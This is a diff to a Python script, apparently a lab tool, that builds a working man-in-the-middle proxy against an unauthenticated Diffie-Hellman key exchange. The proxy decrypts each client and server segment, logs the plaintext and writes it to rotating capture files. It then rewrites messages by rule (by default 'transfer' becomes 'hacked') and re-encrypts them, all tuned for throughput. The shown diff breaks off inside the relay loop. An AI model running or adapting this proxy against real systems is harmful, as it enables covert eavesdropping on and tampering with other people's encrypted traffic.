@@ -1,19 +1,38 @@
 #!/usr/bin/env python3
 
 import argparse
+import asyncio
+import atexit
+import codecs
+import collections
+import concurrent.futures
+import functools
+import glob
+import itertools
+import json
+import logging
+import os
+import queue
+import re
+import selectors
+import signal
+import struct
 import sys
-import select
 import time
 import socket
 import threading
-import struct
-import os
 import hashlib
+try:
+    from re import _parser as sre_parse
+except ImportError:  # Python < 3.11
+    import sre_parse
 from cryptography.hazmat.primitives.asymmetric import dh
-from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 from cryptography.hazmat.primitives.kdf.hkdf import HKDF
 from cryptography.hazmat.primitives import hashes
 
+from transfer_core import (SEGMENT_HEADER, SEGMENT_NONCE_SIZE, STATS, TAG_SIZE, SegmentCipher, dh_exchange,
+                           enable_stats, recv_exact)
+
 
 g = 2
 p = int(
@@ -27,6 +46,451 @@ p = int(
 param_numbers = dh.DHParameterNumbers(p, g)
 dh_parameters = param_numbers.parameters()
 
+KEY_DIGITS = 384
+DEFAULT_BACKLOG = 1024
+CLIENT_KEY_TIMEOUT = 30
+MAX_IDLE = 10
+RELAY_READ_SIZE = 1 << 18
+RELAY_HIGH_WATER = 1 << 20
+RELAY_LOW_WATER = 1 << 18
+RELAY_IOV_BATCH = 64
+MAX_SEGMENT_PLAINTEXT = 0xFFFF - SEGMENT_NONCE_SIZE - TAG_SIZE
+REWRITE_WINDOW = 1024
+REWRITE_HOLD = 0.1
+RULE_DIRECTIONS = ('client', 'server', 'both')
+DEFAULT_RULES = [('literal', 'client', b'transfer', b'hacked')]
+POOL_MAX_IDLE = 30
+POOL_CONNECT_TIMEOUT = 10
+POOL_CHECK_INTERVAL = 1
+POOL_RETRY_DELAY = 1
+WORKER_STATS_INTERVAL = 1
+WORKER_POLL_INTERVAL = 0.5
+WORKER_MIN_UPTIME = 1
+WORKER_STOP_TIMEOUT = 5
+
+FROM_CLIENT = 0
+FROM_SERVER = 1
+DIRECTION_NAMES = {FROM_CLIENT: 'client', FROM_SERVER: 'server'}
+CAPTURE_MAGIC = b'DHPCAP\x01\n'
+INDEX_MAGIC = b'DHPIDX\x01\n'
+CAPTURE_RECORD = struct.Struct('>QBdI')  # session, direction, timestamp, length
+CAPTURE_INDEX = struct.Struct('>QBdQI')  # session, direction, timestamp, record offset, length
+CAPTURE_PREFIX = 'intercepted'
+CAPTURE_MAX_MB = 256
+CAPTURE_QUEUE_SIZE = 4096
+CAPTURE_BATCH = 256
+CAPTURE_BUFFER_SIZE = 1 << 20
+LOG_LEVELS = {'debug': logging.DEBUG, 'info': logging.INFO, 'warning': logging.WARNING, 'error': logging.ERROR}
+
+log = logging.getLogger('dh-proxy')
+SESSION_IDS = itertools.count(1)
+
+class Capture:
+    """Writes intercepted plaintext to disk from a background thread.
+
+    record() only hands the payload to a bounded queue, so capturing never
+    holds up forwarding; if the writer falls that far behind, records are
+    dropped and counted instead. The writer keeps its files open and writes
+    whatever has queued in one batch. Each record is a header (session id,
+    direction, timestamp, length) followed by the payload, and a sidecar
+    .idx file lists where every record starts so read_capture() can pick
+    out one session without scanning the data. A file that reaches
+    max_bytes is closed and the next numbered part is started.
+    """
+
+    def __init__(self):
+        self.queue = None
+        self.dropped = 0
+
+    def open(self, prefix, max_bytes=CAPTURE_MAX_MB << 20, queue_size=CAPTURE_QUEUE_SIZE):
+        self.prefix = prefix
+        self.max_bytes = max_bytes
+        # Carry on after the parts an earlier run left rather than overwrite them.
+        parts = [int(path[len(prefix) + 1:-4]) for path in glob.glob(glob.escape(prefix) + '.*.cap')
+                 if path[len(prefix) + 1:-4].isdigit()]
+        self.part = max(parts) + 1 if parts else 0
+        self.data = self.index = None
+        self._rotate()
+        self.queue = queue.Queue(queue_size)
+        self.thread = threading.Thread(target=self._run, name='capture', daemon=True)
+        self.thread.start()
+        atexit.register(self.close)
+
+    def record(self, session, direction, payload):
+        records = self.queue
+        if records is None:
+            return
+        try:
+            records.put_nowait((session, direction, time.time(), payload))
+        except queue.Full:
+            self.dropped += 1
+            STATS.count('capture_dropped')
+
+    def close(self):
+        records, self.queue = self.queue, None
+        if records is None:
+            return
+        records.put(None)
+        self.thread.join()
+        if self.dropped:
+            log.warning("[!] Capture fell behind and dropped %d records", self.dropped)
+
+    def _run(self):
+        records = self.queue
+        while True:
+            batch = [records.get()]
+            try:
+                while len(batch) < CAPTURE_BATCH:
+                    batch.append(records.get_nowait())
+            except queue.Empty:
+                pass
+            try:
+                for item in batch:
+                    if item is None:
+                        self.data.close()
+                        self.index.close()
+                        return
+                    self._write(*item)
+                if records.empty():
+                    self.data.flush()
+                    self.index.flush()
+            except OSError as e:
+                log.error("[!] Capture stopped: %s", e)
+                self.queue = None
+                return
+
+    def _write(self, session, direction, timestamp, payload):
+        if self.offset > len(CAPTURE_MAGIC) and self.offset + CAPTURE_RECORD.size + len(payload) > self.max_bytes:
+            self._rotate()
+        self.data.write(CAPTURE_RECORD.pack(session, direction, timestamp, len(payload)))
+        self.data.write(payload)
+        self.index.write(CAPTURE_INDEX.pack(session, direction, timestamp, self.offset, len(payload)))
+        self.offset += CAPTURE_RECORD.size + len(payload)
+
+    def _rotate(self):
+        for f in (self.data, self.index):
+            if f is not None:
+                f.close()
+        base = f"{self.prefix}.{self.part:05d}"
+        self.part += 1
+        self.data = open(base + '.cap', 'wb', buffering=CAPTURE_BUFFER_SIZE)
+        self.index = open(base + '.idx', 'wb', buffering=CAPTURE_BUFFER_SIZE)
+        self.data.write(CAPTURE_MAGIC)
+        self.index.write(INDEX_MAGIC)
+        self.offset = len(CAPTURE_MAGIC)
+        log.info("[*] Capturing to %s.cap", base)
+
+CAPTURE = Capture()
+
+def read_capture(path, session=None):
+    """Yield (session, direction, timestamp, payload) for the records in one capture part."""
+    index_path = os.path.splitext(path)[0] + '.idx'
+    with open(path, 'rb') as data, open(index_path, 'rb') as index:
+        if data.read(len(CAPTURE_MAGIC)) != CAPTURE_MAGIC or index.read(len(INDEX_MAGIC)) != INDEX_MAGIC:
+            raise ValueError(f"{path} is not a dh-proxy capture")
+        entries = index.read()
+        # A capture cut short by a crash can end in a partial index entry.
+        entries = entries[:len(entries) - len(entries) % CAPTURE_INDEX.size]
+        for sid, direction, timestamp, offset, length in CAPTURE_INDEX.iter_unpack(entries):
+            if session is not None and sid != session:
+                continue
+            data.seek(offset + CAPTURE_RECORD.size)
+            payload = data.read(length)
+            if len(payload) < length:
+                return
+            yield sid, direction, timestamp, payload
+
+def show_capture(path, session=None):
+    for sid, direction, timestamp, payload in read_capture(path, session):
+        when = time.strftime('%Y-%m-%d %H:%M:%S', time.localtime(timestamp))
+        print(f"[{when}.{int(timestamp % 1 * 1000):03d}] session {sid} from {DIRECTION_NAMES[direction]} "
+              f"({len(payload)} bytes): {preview(payload)}")
+
+def preview(plaintext: bytes, limit=100):
+    try:
+        text = plaintext[:limit].decode('utf-8')
+    except UnicodeDecodeError:
+        text = repr(plaintext[:limit])
+    return text + ('...' if len(plaintext) > limit else '')
+
+def trie_pattern(literals):
+    """Compile byte strings into one regex shaped like their prefix trie.
+
+    Matching walks the trie from each position, so the cost per byte is
+    bounded by the longest literal instead of growing with the number of
+    literals, and the walk runs inside the re engine. Where literals share
+    a start the longest one wins.
+    """
+    trie = {}
+    for literal in literals:
+        node = trie
+        for byte in literal:
+            node = node.setdefault(byte, {})
+        node[None] = True
+
+    def build(node):
+        branches, singles = [], []
+        for byte in sorted(key for key in node if key is not None):
+            child = build(node[byte])
+            if child:
+                branches.append(re.escape(bytes([byte])) + child)
+            else:
+                singles.append(re.escape(bytes([byte])))
+        if len(singles) == 1:
+            branches.append(singles[0])
+        elif singles:
+            branches.append(b'[' + b''.join(singles) + b']')
+        if not branches:
+            return b''
+        pattern = branches[0] if len(branches) == 1 else b'(?:' + b'|'.join(branches) + b')'
+        if None in node:
+            pattern = b'(?:' + pattern + b')?'
+        return pattern
+
+    return build(trie)
+
+ANY_BYTE = frozenset(range(256))
+
+def regex_width(pattern):
+    """The most bytes one match of pattern can span, or None if unbounded."""
+    width = sre_parse.parse(pattern).getwidth()[1]
+    return None if width >= sre_parse.MAXREPEAT else width
+
+def regex_first_bytes(pattern):
+    """The bytes a match of pattern can start with (every byte if unsure)."""
+    parsed = sre_parse.parse(pattern)
+    first, _ = _first_bytes(parsed, parsed.state.flags & re.IGNORECASE)
+    return frozenset(first)
+
+def _first_bytes(items, ignore_case):
+    # Returns the possible first bytes of items and whether they can match
+    # nothing at all, in which case whatever follows can start the match.
+    first = set()
+    for op, av in items:
+        start, empty = _item_first_bytes(op, av, ignore_case)
+        first |= start
+        if not empty:
+            return first, False
+    return first, True
+
+def _item_first_bytes(op, av, ignore_case):
+    if op is sre_parse.LITERAL:
+        first = {av}
+    elif op is sre_parse.NOT_LITERAL:
+        first = ANY_BYTE - {av}
+    elif op is sre_parse.IN:
+        first = _class_bytes(av)
+    elif op is sre_parse.SUBPATTERN:
+        return _first_bytes(av[3], ignore_case or av[1] & re.IGNORECASE)
+    elif op is sre_parse.BRANCH:
+        first, empty = set(), False
+        for branch in av[1]:
+            start, branch_empty = _first_bytes(branch, ignore_case)
+            first |= start
+            empty = empty or branch_empty
+        return first, empty
+    elif op in (sre_parse.MAX_REPEAT, sre_parse.MIN_REPEAT, getattr(sre_parse, 'POSSESSIVE_REPEAT', None)):
+        first, empty = _first_bytes(av[2], ignore_case)
+        return first, empty or av[0] == 0
+    elif op is getattr(sre_parse, 'ATOMIC_GROUP', None):
+        return _first_bytes(av, ignore_case)
+    elif op in (sre_parse.AT, sre_parse.ASSERT, sre_parse.ASSERT_NOT):
+        return set(), True
+    else:
+        return set(ANY_BYTE), False
+    if ignore_case:
+        first |= {ord(chr(byte).swapcase()) for byte in first if chr(byte).isascii()}
+    return first, False
+
+def _class_bytes(items):
+    first = set()
+    negate = False
+    for op, av in items:
+        if op is sre_parse.NEGATE:
+            negate = True
+        elif op is sre_parse.LITERAL:
+            first.add(av)
+        elif op is sre_parse.RANGE:
+            first.update(range(av[0], av[1] + 1))
+        else:
+            return set(ANY_BYTE)
+    return ANY_BYTE - first if negate else first
+
+class RuleSet:
+    """The rewrite rules for one direction, compiled once into one pattern.
+
+    Literals form a trie (see trie_pattern) and each regex becomes a named
+    alternative after it, so one scan of a frame finds every rule. The
+    leftmost match wins; at the same position the longest literal comes
+    first, then regexes in file order.
+
+    Every regex must have a bounded width (see load_rules), so a match that
+    may still grow with the next frame can only start in that frame's last
+    width - 1 bytes, and only on a byte the regex can start with.
+    """
+
+    def __init__(self, literals, regexes):
+        self.literals = dict(literals)
+        self.regexes = [(re.compile(pattern), replacement) for pattern, replacement in regexes]
+        alternatives = []
+        if self.literals:
+            alternatives.append(b'(?P<lit>' + trie_pattern(self.literals) + b')')
+        for i, (pattern, _) in enumerate(regexes):
+            alternatives.append(b'(?P<r%d>' % i + pattern + b')')
+        self.pattern = re.compile(b'|'.join(alternatives)) if alternatives else None
+        self.prefixes = {literal[:i] for literal in self.literals for i in range(1, len(literal))}
+        self.longest = max(map(len, self.literals), default=0)
+        # (window, starts) per regex: the tail that can hold the start of a
+        # match still growing, and a class for the bytes one can start with.
+        self.tails = []
+        for pattern, _ in regexes:
+            width = regex_width(pattern)
+            if width is None or width > REWRITE_WINDOW:
+                raise re.error(f"pattern {pattern!r} can match more than {REWRITE_WINDOW} bytes")
+            first = regex_first_bytes(pattern)
+            if width > 1 and first:
+                starts = None if first == ANY_BYTE else re.compile(
+                    b'[' + b''.join(re.escape(bytes([byte])) for byte in sorted(first)) + b']')
+                self.tails.append((width - 1, starts))
+
+    def __bool__(self):
+        return self.pattern is not None
+
+    def hold(self, text):
+        """How many trailing bytes of text could still begin a match."""
+        size = next((size for size in range(min(self.longest - 1, len(text)), 0, -1)
+                     if text[-size:] in self.prefixes), 0)
+        for window, starts in self.tails:
+            window = min(window, len(text))
+            if window <= size:
+                continue
+            if starts is None:
+                size = window
+            else:
+                match = starts.search(text, len(text) - window)
+                if match:
+                    size = len(text) - match.start()
+        return size
+
+    def replacement(self, match):
+        if match.lastgroup == 'lit':
+            return self.literals[match.group()]
+        regex, template = self.regexes[int(match.lastgroup[1:])]
+        return regex.match(match.string, match.start()).expand(template)
+
+class RewriteStream:
+    """Applies a RuleSet to one direction of one session.
+
+    A match can span frames: the bytes at the end of a frame that could
+    still start one are held back and scanned again with the next frame.
+    feed() returns the output as (offset, bytes, replaced) pieces, offset
+    being where the piece starts in the input, so the caller can tell which
+    frame each piece belongs to; consumed is the input offset everything
+    before has been returned for. feed(data, flush=True) releases the held
+    bytes once nothing else is coming, or after hold_time seconds without
+    another frame.
+    """
+
+    def __init__(self, rules, hold_time=REWRITE_HOLD):
+        self.rules = rules
+        self.hold_time = hold_time
+        self.carry = b''
+        self.consumed = 0
+
+    def feed(self, data, flush=False):
+        text = self.carry + data if self.carry else bytes(data)
+        limit = len(text) if flush else len(text) - self.rules.hold(text)
+        base = self.consumed
+        out = []
+        pos = 0
+        for match in self.rules.pattern.finditer(text):
+            if match.start() >= limit:
+                break
+            if match.start() > pos:
+                out.append((base + pos, text[pos:match.start()], False))
+            out.append((base + match.start(), self.rules.replacement(match), True))
+            pos = match.end()
+        end = max(limit, pos)
+        if end > pos:
+            out.append((base + pos, text[pos:end], False))
+        self.carry = text[end:]
+        self.consumed = base + end
+        return out
+
+def parse_rule_field(text):
+    return codecs.escape_decode(text.encode('utf-8'))[0]
+
+def load_rules(path):
+    """Read a rule file of tab-separated kind, direction, pattern, replacement lines.
+
+    kind is literal or regex and direction is client, server or both.
+    Literal fields take backslash escapes such as \\t and \\x00; regex
+    patterns and replacements use re syntax. Blank lines and lines starting
+    with # are skipped.
+    """
+    rules = []
+    with open(path, encoding='utf-8') as f:
+        for number, line in enumerate(f, 1):
+            line = line.rstrip('\r\n')
+            if not line.strip() or line.lstrip().startswith('#'):
+                continue
+            fields = line.split('\t')
+            if len(fields) != 4:
+                raise ValueError(f"{path}:{number}: expected kind, direction, pattern and replacement separated by tabs")
+            kind, direction, pattern, replacement = fields
+            if direction not in RULE_DIRECTIONS:
+                raise ValueError(f"{path}:{number}: direction must be one of {', '.join(RULE_DIRECTIONS)}")
+            if kind == 'literal':
+                pattern, replacement = parse_rule_field(pattern), parse_rule_field(replacement)
+            elif kind == 'regex':
+                pattern, replacement = pattern.encode('utf-8'), replacement.encode('utf-8')
+                try:
+                    regex = re.compile(pattern)
+                except re.error as e:
+                    raise ValueError(f"{path}:{number}: {e}")
+                if regex.fullmatch(b''):
+                    raise ValueError(f"{path}:{number}: pattern matches the empty string")
+                if re.search(rb'\\[1-9]|\(\?P=', pattern):
+                    raise ValueError(f"{path}:{number}: backreferences are not supported in patterns")
+                width = regex_width(pattern)
+                if width is None or width > REWRITE_WINDOW:
+                    raise ValueError(f"{path}:{number}: pattern can match more than {REWRITE_WINDOW} bytes; "
+                                     f"bound its repeats, e.g. {{1,64}} instead of + or *")
+            else:
+                raise ValueError(f"{path}:{number}: kind must be literal or regex")
+            if not pattern:
+                raise ValueError(f"{path}:{number}: empty pattern")
+            rules.append((kind, direction, pattern, replacement))
+    return rules
+
+class Rewriter:
+    """Rule sets for traffic from the client and from the server.
+
+    hold_time is how long a stream keeps bytes back for a match that may
+    continue in the next frame before sending them unchanged.
+    """
+
+    def __init__(self, rules, hold_time=REWRITE_HOLD):
+        self.hold_time = hold_time
+        by_direction = {}
+        for name in ('client', 'server'):
+            literals = [(pattern, replacement) for kind, direction, pattern, replacement in rules
+                        if kind == 'literal' and direction in (name, 'both')]
+            regexes = [(pattern, replacement) for kind, direction, pattern, replacement in rules
+                       if kind == 'regex' and direction in (name, 'both')]
+            try:
+                by_direction[name] = RuleSet(literals, regexes)
+            except re.error as e:
+                raise ValueError(f"Rules for {name} traffic do not combine: {e}")
+        self.client = by_direction['client']
+        self.server = by_direction['server']
+
+    def stream(self, name):
+        rules = getattr(self, name)
+        return RewriteStream(rules, self.hold_time) if rules else None
+
+REWRITE = Rewriter(DEFAULT_RULES)
+
 def derive_key(shared_key: bytes) -> bytes:
     hkdf = HKDF(
         algorithm=hashes.SHA256(),
@@ -44,236 +508,948 @@ def padded_decimal_string_to_int(padded_str: str) -> int:
     return int(padded_str, 10)
 
 def receive_public_key(sock) -> int:
-    key_bytes = b''
-    expected_len = 384
-    print("[DEBUG] Receiving public key (expecting 384 bytes)...")
-    while len(key_bytes) < expected_len:
-        chunk = sock.recv(expected_len - len(key_bytes))
-        if not chunk:
-            raise ConnectionError("Connection closed during key reception")
-        key_bytes += chunk
-        print(f"[DEBUG] Received {len(chunk)} bytes, total: {len(key_bytes)}")
-    print("[DEBUG] Full key received.")
+    expected_len = KEY_DIGITS
+    log.debug("[DEBUG] Receiving public key (expecting %d bytes)...", expected_len)
+    try:
+        key_bytes = recv_exact(sock, expected_len)
+    except ConnectionError:
+        raise ConnectionError("Connection closed during key reception")
+    log.debug("[DEBUG] Full key received.")
     return int(key_bytes.decode('utf-8'))
 
+def encode_public_key(pub_int) -> bytes:
+    return int_to_padded_decimal_string(pub_int, KEY_DIGITS).encode('utf-8')
+
 def send_public_key(sock, pub_int):
-    pub_str = int_to_padded_decimal_string(pub_int)
-    sock.sendall(pub_str.encode('utf-8'))
-
-def decrypt_data(segment, session_key):
-    if len(segment) < 16:
-        raise ValueError("Segment is too short")
-
-    nonce = segment[:16]
-    ciphertext = segment[16:]
-    
-
-    aesgcm = AESGCM(session_key)
-    return aesgcm.decrypt(nonce, ciphertext, None)
-
-def encrypt_data(plaintext, session_key):
-    nonce = os.urandom(16)
-    aesgcm = AESGCM(session_key)
-    ciphertext = aesgcm.encrypt(nonce, plaintext, None)
-    length = 16 + len(ciphertext)
-    length_bytes = struct.pack('>H', length)
-    return length_bytes + nonce + ciphertext
-
-def relay_loop(client_sock, server_sock, key_c, key_s, max_idle=10, max_messages=100):
-    print("[DEBUG] Entered relay_loop")
-    sockets = [client_sock, server_sock]
-    last_activity = time.time()
-    messages_forwarded = 0
+    sock.sendall(encode_public_key(pub_int))
 
-    client_sock.setblocking(False)
-    server_sock.setblocking(False)
+def session_key(private_key, peer_pub_val: int) -> bytes:
+    # dh_exchange skips the group re-validation (~50 ms, holding the GIL)
+    # that loading the peer value as a key would cost every session, and
+    # runs the exchange itself in libcrypto.
+    return derive_key(dh_exchange(private_key, peer_pub_val))
 
-    while True:
-        readable, _, exceptional = select.select(sockets, [], sockets, 0.1)
+class Upstream:
+    """A connection to the real server that has already sent its public key.
+
+    The proxy's key pair for the server leg and the session key are worked
+    out as soon as the server's key arrives, so sending public_key is all
+    that is left of the server-side handshake.
+    """
 
-        if exceptional:
-            print("[!] Exception in sockets, closing relay loop.")
-            break
+    def __init__(self, sock, server_pub_val):
+        self.sock = sock
+        self.server_pub_val = server_pub_val
+        self.private_key = dh_parameters.generate_private_key()
+        self.public_key = encode_public_key(self.private_key.public_key().public_numbers().y)
+        self.key = session_key(self.private_key, server_pub_val)
+        self.ready_at = time.monotonic()
 
-        if not readable:
-            if time.time() - last_activity > max_idle:
-                print(f"[*] No activity for {max_idle} seconds, closing relay loop.")
+def connect_upstream(server_host, server_port, timeout=None) -> Upstream:
+    sock = socket.create_connection((server_host, server_port), timeout)
+    try:
+        server_pub_val = receive_public_key(sock)
+        log.debug("[PROXY] Received server public key!: %d", server_pub_val)
+        upstream = Upstream(sock, server_pub_val)
+    except BaseException:
+        sock.close()
+        raise
+    sock.settimeout(None)
+    return upstream
+
+def upstream_alive(sock) -> bool:
+    """True if an idle upstream is still open and has sent nothing since its key."""
+    try:
+        sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+    # Either EOF or bytes the server should not send before our key.
+    return False
+
+class UpstreamPool:
+    """Upstream connections opened ahead of time on a background thread.
+
+    Each one is past the server's key (see Upstream), so a new client only
+    waits for its own leg of the handshake. take() hands out the freshest
+    connection, or None when the pool is empty so the caller connects on
+    its own. Idle connections are checked every POOL_CHECK_INTERVAL
+    seconds and again when handed out; any the server has closed, or that
+    have sat for more than max_idle seconds, are closed and replaced.
+    """
+
+    def __init__(self, server_host, server_port, size, max_idle=POOL_MAX_IDLE):
+        self.server_host = server_host
+        self.server_port = server_port
+        self.size = size
+        self.max_idle = max_idle
+        self.ready = collections.deque()
+        self.changed = threading.Condition()
+        threading.Thread(target=self._fill, name='upstream-pool', daemon=True).start()
+
+    def _fill(self):
+        while True:
+            with self.changed:
+                self._expire()
+                while len(self.ready) >= self.size:
+                    self.changed.wait(POOL_CHECK_INTERVAL)
+                    self._expire()
+            try:
+                upstream = connect_upstream(self.server_host, self.server_port, POOL_CONNECT_TIMEOUT)
+            except (OSError, ValueError) as e:
+                log.warning("[!] Upstream pool could not connect: %s", e)
+                time.sleep(POOL_RETRY_DELAY)
+                continue
+            with self.changed:
+                self.ready.append(upstream)
+
+    def _expire(self):
+        now = time.monotonic()
+        for upstream in list(self.ready):
+            if now - upstream.ready_at > self.max_idle or not upstream_alive(upstream.sock):
+                self.ready.remove(upstream)
+                upstream.sock.close()
+
+    def take(self):
+        with self.changed:
+            while self.ready:
+                upstream = self.ready.pop()
+                if upstream_alive(upstream.sock):
+                    self.changed.notify()
+                    return upstream
+                upstream.sock.close()
+            self.changed.notify()
+        return None
+
+POOL = None
+
+def intercept_from_client(session, plaintext: bytes):
+    """Capture a decrypted client message before it is rewritten."""
+    CAPTURE.record(session, FROM_CLIENT, plaintext)
+    if log.isEnabledFor(logging.DEBUG):
+        log.debug("[MITM] Intercepted from client (session %d, %d bytes): %s", session, len(plaintext), preview(plaintext))
+
+def intercept_from_server(session, plaintext: bytes):
+    """Capture a decrypted server message before it is rewritten."""
+    CAPTURE.record(session, FROM_SERVER, plaintext)
+    if log.isEnabledFor(logging.DEBUG):
+        log.debug("[MITM] Intercepted from server (session %d, %d bytes): %s", session, len(plaintext), preview(plaintext))
+
+class SegmentRelay:
+    """Opens, rewrites and reseals the segments one peer sends.
+
+    Bytes collect in a buffer until whole segments are there, so a segment
+    split across packets waits for the rest instead of ending the session,
+    and every whole segment is handled per call to feed(). With rewrite
+    rules, each segment still goes out as exactly one segment (split only
+    if a replacement pushes it past the 16-bit limit): a segment whose tail
+    the rewriter holds back for a match that may span segments waits in
+    pending until the next segment settles it, and a replacement goes out
+    in the segment its match started in. If no segment arrives within the
+    rewriter's hold_time, the relay calls release() to send the waiting
+    segments with the held bytes unchanged; finish() does the same at EOF.
+    """
+
+    def __init__(self, opener, sealer, intercept, name, rewrite=None):
+        self.opener = opener
+        self.sealer = sealer
+        self.intercept = intercept
+        self.name = name
+        self.rewrite = rewrite
+        self.pending = collections.deque()  # [start, end, pieces] per segment not sent yet
+        self.received = 0
+        self.held_at = None
+        self.inbuf = bytearray()
+
+    def feed(self, data):
+        """Take bytes from the peer; returns the buffers to send on."""
+        buf = self.inbuf
+        buf += data
+        pos = 0
+        outputs = []
+        arrived = False
+        while len(buf) - pos >= SEGMENT_HEADER.size:
+            length = SEGMENT_HEADER.unpack_from(buf, pos)[0]
+            end = pos + SEGMENT_HEADER.size + length
+            if end > len(buf):
                 break
-            continue  
+            segment = buf[pos + SEGMENT_HEADER.size:end]
+            pos = end
+            log.debug("[PROXY] Received full segment (%d bytes) from %s", length, self.name)
+            try:
+                plaintext = self.opener.open(segment)
+            except Exception as e:
+                log.warning("[!] Decryption failed from %s: %s", self.name, e)
+                STATS.count('decrypt_failures')
+                continue
+            self.intercept(plaintext)
+            STATS.count('segments_relayed')
+            STATS.count('bytes_relayed', len(plaintext))
+            if not self.rewrite:
+                outputs.append(plaintext)
+                continue
+            arrived = True
+            self.pending.append([self.received, self.received + len(plaintext), []])
+            self.received += len(plaintext)
+            self.place(self.rewrite.feed(plaintext))
+            outputs += self.complete()
+        del buf[:pos]
+        if arrived:
+            self.held_at = time.monotonic() if self.pending else None
+        return self.seal(outputs)
+
+    def place(self, pieces):
+        """File rewritten pieces under the pending segments they came from."""
+        pending = self.pending
+        index = 0
+        for offset, data, replaced in pieces:
+            while index < len(pending) - 1 and pending[index][1] <= offset:
+                index += 1
+            if replaced:
+                pending[index][2].append(data)
+                continue
+            # Unchanged text is split where the segments it came from end.
+            while index < len(pending) - 1 and offset + len(data) > pending[index][1]:
+                take = pending[index][1] - offset
+                pending[index][2].append(data[:take])
+                data = data[take:]
+                offset += take
+                index += 1
+            pending[index][2].append(data)
+
+    def complete(self):
+        """Plaintexts of the pending segments the rewriter holds nothing of."""
+        done = []
+        while self.pending and self.pending[0][1] <= self.rewrite.consumed:
+            done.append(b''.join(self.pending.popleft()[2]))
+        return done
+
+    def deadline(self):
+        """When held bytes are due to be released, or None if nothing is held."""
+        return None if self.held_at is None else self.held_at + self.rewrite.hold_time
+
+    def release(self):
+        """Buffers for the segments waiting on held bytes, sent unchanged."""
+        self.held_at = None
+        if not self.pending:
+            return []
+        self.place(self.rewrite.feed(b'', flush=True))
+        return self.seal(self.complete())
+
+    def finish(self):
+        """Buffers for the segments still waiting once the peer is done."""
+        return self.release()
+
+    def seal(self, outputs):
+        parts = []
+        for plaintext in outputs:
+            for start in range(0, max(len(plaintext), 1), MAX_SEGMENT_PLAINTEXT):
+                parts += self.sealer.seal(plaintext[start:start + MAX_SEGMENT_PLAINTEXT])
+        return parts
 
-        for sock in readable:
+class RelayDirection(SegmentRelay):
+    """One direction of a threaded relay: segments read from src, resealed for dst.
+
+    Resealed segments queue for dst and go out as it becomes writable.
+    Once more than RELAY_HIGH_WATER bytes are queued, reading from src
+    pauses until the queue drains below RELAY_LOW_WATER.
+    """
+
+    def __init__(self, src, dst, opener, sealer, intercept, name, rewrite=None):
+        super().__init__(opener, sealer, intercept, name, rewrite)
+        self.src = src
+        self.dst = dst
+        self.outq = collections.deque()
+        self.queued = 0
+        self.paused = False
+        self.eof = False
+
+    def fill(self) -> bool:
+        """Read what src has and relay every whole segment; False if nothing arrived."""
+        try:
+            data = self.src.recv(RELAY_READ_SIZE)
+        except BlockingIOError:
+            return False
+        if not data:
+            self.eof = True
+            if self.inbuf:
+                log.warning("[!] Connection closed by %s in the middle of a segment. Ending relay loop.", self.name)
+            else:
+                log.info("[!] Socket closed by %s (normal EOF). Ending relay loop.", self.name)
+            self.queue(self.finish())
+            return False
+        self.queue(self.feed(data))
+        return True
+
+    def queue(self, parts):
+        self.outq.extend(parts)
+        self.queued += sum(len(part) for part in parts)
+        if self.queued >= RELAY_HIGH_WATER:
+            self.paused = True
+
+    def flush(self):
+        """Send as much queued output as dst takes without blocking."""
+        while self.outq:
             try:
-                length_bytes = sock.recv(2)
-                if len(length_bytes) == 0:
-                    print(f"[!] Socket closed by {'client' if sock == client_sock else 'server'} (normal EOF). Ending relay loop.")
-                    return
-                elif len(length_bytes) < 2:
-                    print(f"[!] Partial length header received from {'client' if sock == client_sock else 'server'}. Closing connection.")
-                    return
+                sent = self.dst.sendmsg(list(itertools.islice(self.outq, RELAY_IOV_BATCH)))
+            except BlockingIOError:
+                break
+            self.queued -= sent
+            while sent:
+                head = self.outq[0]
+                if sent < len(head):
+                    self.outq[0] = memoryview(head)[sent:]
+                    break
+                sent -= len(head)
+                self.outq.popleft()
+        if self.paused and self.queued <= RELAY_LOW_WATER:
+            self.paused = False
 
-                length = struct.unpack('>H', length_bytes)[0]
-                print(f"[PROXY] Received length header: {length} bytes from {'client' if sock == client_sock else 'server'}")
+def relay_loop(client_sock, server_sock, key_c, key_s, max_idle=MAX_IDLE, max_messages=100, session=0):
+    log.debug("[DEBUG] Entered relay_loop")
+    # One AES-GCM context per leg for the whole session: it opens what that
+    # peer sends and seals what we send back to it.
+    cipher_c = SegmentCipher(key_c)
+    cipher_s = SegmentCipher(key_s)
+    # Keyed by the socket each direction reads from; the other entry is
+    # the one writing to that socket.
+    directions = {
+        client_sock: RelayDirection(client_sock, server_sock, cipher_c, cipher_s,
+                                    functools.partial(intercept_from_client, session), 'client',
+                                    REWRITE.stream('client')),
+        server_sock: RelayDirection(server_sock, client_sock, cipher_s, cipher_c,
+                                    functools.partial(intercept_from_server, session), 'server',
+                                    REWRITE.stream('server')),
+    }
+    peers = {client_sock: directions[server_sock], server_sock: directions[client_sock]}
+    last_activity = time.time()
+
+    client_sock.setblocking(False)
+    server_sock.setblocking(False)
 
-                segment = b''
-                while len(segment) < length:
-                    chunk = sock.recv(length - len(segment))
-                    if not chunk:
-                        print("[!] Connection closed during segment read")
+    with selectors.DefaultSelector() as selector:
+        interest = {}
+        try:
+            while True:
+                for direction in directions.values():
+                    if direction.eof and not direction.outq:
                         return
-                    segment += chunk
-
-                print(f"[PROXY] Received full segment ({len(segment)} bytes)")
-                last_activity = time.time() 
-                messages_forwarded += 1
-
-                if sock == client_sock:
-                    print("[PROXY] -- Data from client")
-                    try:
-                        plaintext = decrypt_data(segment, key_c)
-                    except Exception as e:
-                        print(f"[!] Decryption failed from client: {e}")
-                        continue
 
-                    modified = plaintext.replace(b"transfer", b"hacked")
-                    try:
-                        print("[MITM] Intercepted from client:", plaintext.decode('utf-8'))
-                    except UnicodeDecodeError:
-                        print("[MITM] Intercepted from client (raw):", plaintext)
-
-                    print(f"[DEBUG] Intercepted plaintext from client ({len(plaintext)} bytes): {plaintext[:100]}...")
-                    with open("intercepted_by_proxy.txt", "ab") as f:
-                        f.write(plaintext)
-                    print("[DEBUG] Write to intercepted_by_proxy.txt done")
-
-                    new_segment = encrypt_data(modified, key_s)
-                    server_sock.sendall(new_segment)
-                    print("[PROXY] Decrypted and forwarded message from client to server. \n")
-
-                else:
-                    print("[PROXY] -- Data from server")
-                    try:
-                        plaintext = decrypt_data(segment, key_s)
-                    except Exception as e:
-                        print(f"[!] Decryption failed from server!: {e}")
+                for sock in directions:
+                    events = 0
